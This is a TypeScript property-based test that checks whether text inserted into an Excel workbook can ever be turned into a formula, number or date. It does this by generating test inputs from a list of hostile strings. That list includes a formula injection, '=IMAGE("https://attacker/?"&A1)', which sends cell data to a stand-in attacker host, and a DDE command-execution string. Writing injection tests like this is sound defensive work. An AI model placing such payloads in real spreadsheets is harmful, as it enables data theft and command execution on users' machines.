import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { asUser, openExcel, sheetNames, type OpenExcel } from './excel.js';
import { sampleAnswer } from './sample-answer.js';

let excel: OpenExcel;
beforeAll(async () => {
  excel = await openExcel();
});

const hostile = [
  '=IMAGE("https://attacker/?"&A1)',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '＝WEBSERVICE("x")',
  '\u200b=1+1',
  ' =1+1',
  "'=1+1",
  '1/2',
  'TRUE',
  '007',
];
const text = fc.oneof(fc.constantFrom(...hostile), fc.string({ unit: 'grapheme', maxLength: 30 }));

/** Contents of every sheet of the workbook. */
const everything = () =>
  asUser(async (context) => {
    const sheets = context.workbook.worksheets.load('items/name');
    await context.sync();
    const ranges = sheets.items.map((sheet) => sheet.getUsedRangeOrNullObject(true).load('values,formulas'));
    await context.sync();
    return ranges.flatMap((range) => (range.isNullObject ? [] : [{ values: range.values, formulas: range.formulas }]));
  });

describe('text of a model, a file or a database', () => {
  it('never becomes a formula, a number or a date, wherever it is written', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(text, { minLength: 6, maxLength: 6 }),
        async ([title, header, cell, sentence, reading, source]) => {
          const insertion = await excel.workbook.insert(
            sampleAnswer({
              headline: title!,
              sentences: [sentence!],
              tables: [
                {
                  name: header!,
                  columns: [
                    { name: header!, type: 'text' },
                    { name: 'n', type: 'number' },
                  ],
                  rows: [[cell!, 1]],
                  totalRows: 1,
                },
              ],
              charts: [
                {
                  kind: 'bar',
                  title: title!,
                  caption: '',
                  reading: reading!,
                  table: 0,
                  category: 0,
                  series: [{ name: header!, column: 1 }],
                },
              ],
              receipt: { ...sampleAnswer().receipt, source: { kind: 'range', label: source! }, query: cell! },
            }),
          );
          for (const { values, formulas } of await everything()) {
            const typed = formulas
              .flat()
              .filter((formula, index) => typeof formula === 'string' && formula !== values.flat()[index]);
            expect(typed).toEqual([]);
          }
          const read = await asUser(async (context) => {
            const range = context.workbook.worksheets.getItem(insertion.sheet).getRange('A4:A5').load('values');
            await context.sync();
            return range.values.flat() as unknown[];
          });
          expect(read).toEqual([header!.trim() === '' ? 'Column 1' : header, cell]);
          await excel.workbook.undo(insertion.id);
        },
      ),
      { numRuns: 40 },
    );
    expect(await sheetNames()).toEqual(['Sheet1', 'DV Log']);
  });
});
